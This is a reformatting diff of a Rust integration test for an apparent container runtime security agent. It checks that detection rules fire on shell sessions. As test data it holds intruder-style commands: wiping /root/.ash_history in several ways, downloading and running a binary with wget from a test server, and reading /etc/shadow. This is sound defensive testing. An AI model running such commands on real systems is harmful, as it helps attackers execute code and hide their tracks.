@@ -71,7 +71,8 @@ fn prepare(root: &Path) {
     std::fs::create_dir_all(www.join("kit")).unwrap();
     std::fs::copy("/bin/busybox", www.join("payload")).unwrap();
     std::fs::copy("/bin/busybox", www.join("kit/busybox")).unwrap();
-    let st = Command::new("tar").arg("-czf").arg(www.join("kit.tar.gz")).arg("-C").arg(&www).arg("kit").status().unwrap();
+    let st =
+        Command::new("tar").arg("-czf").arg(www.join("kit.tar.gz")).arg("-C").arg(&www).arg("kit").status().unwrap();
     assert!(st.success(), "tar on the host");
     std::fs::remove_dir_all(www.join("kit")).unwrap();
 }
@@ -212,7 +213,10 @@ impl Span {
 
     /// Rules that fired on this span.
     fn alerts(&self) -> Vec<String> {
-        self.alert_events().iter().filter_map(|a| a.get("security_rule.name").and_then(|v| v.as_str().map(str::to_owned))).collect()
+        self.alert_events()
+            .iter()
+            .filter_map(|a| a.get("security_rule.name").and_then(|v| v.as_str().map(str::to_owned)))
+            .collect()
     }
 
     /// Each alert event's attributes as a plain JSON object.
@@ -301,7 +305,8 @@ struct Trace<'a> {
 
 impl<'a> Trace<'a> {
     fn of(all: &'a [Span], marker: &str) -> Trace<'a> {
-        let t = trace_with(all, marker).unwrap_or_else(|| panic!("no trace ran {marker}; traces' spans: {:#?}", names(all)));
+        let t = trace_with(all, marker)
+            .unwrap_or_else(|| panic!("no trace ran {marker}; traces' spans: {:#?}", names(all)));
         Trace { marker: marker.into(), spans: all.iter().filter(|s| s.trace_id == t).collect() }
     }
 
@@ -321,7 +326,13 @@ impl<'a> Trace<'a> {
 
     fn assert_fired(&self, rule: &str) -> Vec<&Span> {
         let on = self.fired(rule);
-        assert!(!on.is_empty(), "{}: {rule:?} did not fire; alerts {:?}; spans {:?}", self.marker, self.alerts(), self.names());
+        assert!(
+            !on.is_empty(),
+            "{}: {rule:?} did not fire; alerts {:?}; spans {:?}",
+            self.marker,
+            self.alerts(),
+            self.names()
+        );
         on
     }
 
@@ -331,7 +342,10 @@ impl<'a> Trace<'a> {
 
     /// (span, executable, alerts) per span: what a failure shows.
     fn summary(&self) -> Vec<(String, String, Vec<String>)> {
-        self.spans.iter().map(|s| (s.name.clone(), s.str("process.executable.path").unwrap_or_default(), s.alerts())).collect()
+        self.spans
+            .iter()
+            .map(|s| (s.name.clone(), s.str("process.executable.path").unwrap_or_default(), s.alerts()))
+            .collect()
     }
 
     fn names(&self) -> Vec<String> {
@@ -401,7 +415,12 @@ fn tty_session(cd: &Containerd, c: &Container, lines: &[&str]) -> String {
         })
         .expect("python3 pty driver");
     let shown = String::from_utf8_lossy(&out.stdout).into_owned();
-    assert!(out.status.success(), "terminal session failed ({}): {shown}\n{}", out.status, String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "terminal session failed ({}): {shown}\n{}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
     shown
 }
 
@@ -432,11 +451,13 @@ fn query_escape(s: &str) -> String {
 
 /// The audit EventList of one `kubectl exec` of `command` into billing/api-7d9c.
 fn exec_request(audit_id: &str, command: &[&str], received: SystemTime) -> Value {
-    let fixture: Value = serde_json::from_slice(&std::fs::read(Path::new(FIXTURES).join("audit/exec_websocket.json")).unwrap()).unwrap();
+    let fixture: Value =
+        serde_json::from_slice(&std::fs::read(Path::new(FIXTURES).join("audit/exec_websocket.json")).unwrap()).unwrap();
     let template = "4b5f3c7e-8d2a-4f19-9c3e-2a1b0d9e8f70";
     let mut items = Vec::new();
     for ev in fixture["items"].as_array().unwrap() {
-        if ev["auditID"] != template || !["RequestReceived", "ResponseStarted"].contains(&ev["stage"].as_str().unwrap()) {
+        if ev["auditID"] != template || !["RequestReceived", "ResponseStarted"].contains(&ev["stage"].as_str().unwrap())
+        {
             continue;
         }
         let mut ev = ev.clone();
@@ -466,7 +487,8 @@ fn new_audit_id() -> String {
 fn setup() -> Option<(std::sync::MutexGuard<'static, ()>, Containerd, Container)> {
     let guard = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
     let cd = Containerd::start()?;
-    if std::process::Command::new("python3").arg("-c").arg("import pty").status().map(|s| !s.success()).unwrap_or(true) {
+    if std::process::Command::new("python3").arg("-c").arg("import pty").status().map(|s| !s.success()).unwrap_or(true)
+    {
         assert!(std::env::var_os("CI").is_none(), "CI must run the rule scenarios: python3 with pty is missing");
         eprintln!("SKIPPED (not CI): python3 with pty is missing");
         return None;
@@ -510,7 +532,10 @@ fn each_shipped_rule_fires_on_a_real_session_and_stays_quiet_on_a_close_one() {
     run("mark-hist-builtin", "/bin/echo a >> /root/.ash_history; cd /root && rm .ash_history".into());
     run("mark-hist-truncate", "/bin/echo a >> /root/.ash_history; /bin/truncate -s 0 /root/.ash_history".into());
     run("mark-hist-otrunc", "/bin/echo a >> /root/.ash_history; : > /root/.ash_history".into());
-    run("mark-hist-symlink", "/bin/rm -f /root/.ash_history; /bin/ln -s /dev/null /root/.ash_history; /bin/rm -f /root/.ash_history".into());
+    run(
+        "mark-hist-symlink",
+        "/bin/rm -f /root/.ash_history; /bin/ln -s /dev/null /root/.ash_history; /bin/rm -f /root/.ash_history".into(),
+    );
     run("mark-hist-append", "/bin/echo a >> /root/.ash_history".into());
 
     // sensitive file read: /etc/shadow, not /etc/passwd
@@ -551,7 +576,10 @@ fn each_shipped_rule_fires_on_a_real_session_and_stays_quiet_on_a_close_one() {
     let tty = t("mark-tty-shell");
     let on: Vec<String> = tty.assert_fired(SHELL).iter().map(|s| s.name.clone()).collect();
     assert_eq!(on, ["sh"], "{:?}", tty.alerts());
-    assert_eq!(tty.spans.iter().find(|s| s.name == "sh").and_then(|s| s.attr("process.interactive")), Some(json!(true)));
+    assert_eq!(
+        tty.spans.iter().find(|s| s.name == "sh").and_then(|s| s.attr("process.interactive")),
+        Some(json!(true))
+    );
     t("mark-no-tty").assert_quiet(SHELL);
 
     // download then execute: on the downloaded binary's span, never on wget or the image's busybox
@@ -592,15 +620,25 @@ fn each_shipped_rule_fires_on_a_real_session_and_stays_quiet_on_a_close_one() {
                 && s.alert_events().iter().any(|a| {
                     a["security_rule.name"] == HISTORY
                         && a["podtrail.file.op"] == op
-                        && (a["podtrail.file.path"] == "/root/.ash_history" || a["podtrail.file.path2"] == "/root/.ash_history")
+                        && (a["podtrail.file.path"] == "/root/.ash_history"
+                            || a["podtrail.file.path2"] == "/root/.ash_history")
                 })
         });
-        assert!(hit.is_some(), "{m}: no {op} of /root/.ash_history alert on {span}: {:#?}", tr.spans.iter().map(|s| (&s.name, s.alert_events())).collect::<Vec<_>>());
+        assert!(
+            hit.is_some(),
+            "{m}: no {op} of /root/.ash_history alert on {span}: {:#?}",
+            tr.spans.iter().map(|s| (&s.name, s.alert_events())).collect::<Vec<_>>()
+        );
     }
     let append = t("mark-hist-append");
     append.assert_quiet(HISTORY);
     assert!(
-        append.spans.iter().any(|s| s.events.iter().any(|(n, a)| n == "file open" && attr_of(a, "podtrail.file.path") == Some(json!("/root/.ash_history")))),
+        append
+            .spans
+            .iter()
+            .any(|s| s.events.iter().any(
+                |(n, a)| n == "file open" && attr_of(a, "podtrail.file.path") == Some(json!("/root/.ash_history"))
+            )),
         "the append is seen, as a file event without an alert: {:#?}",
         append.spans
     );
@@ -647,15 +685,19 @@ fn each_shipped_rule_fires_on_a_real_session_and_stays_quiet_on_a_close_one() {
 fn seed_incident_in_one_terminal_session_with_each_alert_on_its_span() {
     let Some((_g, cd, c)) = setup() else { return };
     let agent = Agent::start(&cd);
-    let shown = tty_session(&cd, &c, &[
-        "cd /tmp",
-        &format!("wget -q {HTTP}/kit.tar.gz"),
-        "gzip -d kit.tar.gz",
-        "tar -xf kit.tar",
-        "./kit/busybox echo mark-seed-ran",
-        // typed as an intruder would: `rm` is a NOFORK applet, so the shell itself unlinks
-        "rm /root/.ash_history",
-    ]);
+    let shown = tty_session(
+        &cd,
+        &c,
+        &[
+            "cd /tmp",
+            &format!("wget -q {HTTP}/kit.tar.gz"),
+            "gzip -d kit.tar.gz",
+            "tar -xf kit.tar",
+            "./kit/busybox echo mark-seed-ran",
+            // typed as an intruder would: `rm` is a NOFORK applet, so the shell itself unlinks
+            "rm /root/.ash_history",
+        ],
+    );
     assert!(shown.contains("mark-seed-ran"), "the unpacked binary ran: {shown}");
     let spans = agent.stop_after(&["mark-seed-ran"], Duration::from_secs(90));
     let tr = Trace::of(&spans, "mark-seed-ran");
@@ -677,7 +719,13 @@ fn seed_incident_in_one_terminal_session_with_each_alert_on_its_span() {
     assert_eq!(on(HISTORY), ["sh"]);
     let rm = tr.fired(HISTORY)[0];
     assert_eq!(rm.attr("process.interactive"), Some(json!(true)), "the terminal shell: {rm:#?}");
-    assert!(rm.alert_events().iter().any(|a| a["podtrail.file.path"] == "/root/.ash_history" && a["podtrail.file.op"] == "unlink"), "{:#?}", rm.alert_events());
+    assert!(
+        rm.alert_events()
+            .iter()
+            .any(|a| a["podtrail.file.path"] == "/root/.ash_history" && a["podtrail.file.op"] == "unlink"),
+        "{:#?}",
+        rm.alert_events()
+    );
     for quiet in ["wget", "gzip", "tar"] {
         let s = tr.spans.iter().find(|s| s.name == quiet).unwrap();
         assert!(s.alerts().is_empty(), "{quiet} carries {:?}", s.alerts());
